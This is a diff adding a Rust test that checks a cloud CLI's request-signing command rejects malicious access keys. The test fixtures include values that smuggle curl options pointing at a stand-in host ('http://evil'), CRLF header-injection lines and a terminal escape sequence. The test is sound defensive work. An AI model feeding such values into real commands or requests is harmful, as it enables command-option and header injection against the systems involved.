@@ -279,6 +279,48 @@ fn sign_refuses_what_would_not_match_the_wire() {
     }
 }
 
+/// An access key that would inject curl options or header lines: nothing on stdout, a clear error.
+#[test]
+fn sign_refuses_keys_that_would_inject_options_or_header_lines() {
+    for (access_key, curl, expected) in [
+        (
+            "AKID -o /tmp/owned --url http://evil",
+            true,
+            "$(...) would split",
+        ),
+        ("AKID*", true, "$(...) would split"),
+        (
+            "AKID\r\nx-injected: 1",
+            false,
+            "cannot be sent as an HTTP header value",
+        ),
+        (
+            "AKID\r\nx-injected: 1",
+            true,
+            "cannot be sent as an HTTP header value",
+        ),
+        (
+            "AKID\u{1b}]0;title\u{7}",
+            false,
+            "cannot be sent as an HTTP header value",
+        ),
+    ] {
+        let env = [
+            ("NCLOUD_ACCESS_KEY_ID", access_key),
+            ("NCLOUD_SECRET_ACCESS_KEY", "secret-value-123"),
+        ];
+        let mut args = vec!["sign", "GET", "/api/v1/workspaces", "--timestamp", "1"];
+        if curl {
+            args.push("--curl");
+        }
+        let run = ncloud(&args, &env);
+        assert_ne!(run.code, Some(0), "{access_key:?}: {run:#?}");
+        assert!(run.stdout.is_empty(), "{access_key:?}: {run:#?}");
+        assert!(run.stderr.contains(expected), "{access_key:?}: {run:#?}");
+        assert!(!run.stderr.contains("owned") && !run.stderr.contains("injected"));
+    }
+}
+
 #[test]
 fn sign_checks_its_arguments_before_looking_for_credentials() {
     // No credentials anywhere: a bad path is still a usage error (2), not an auth error (3).
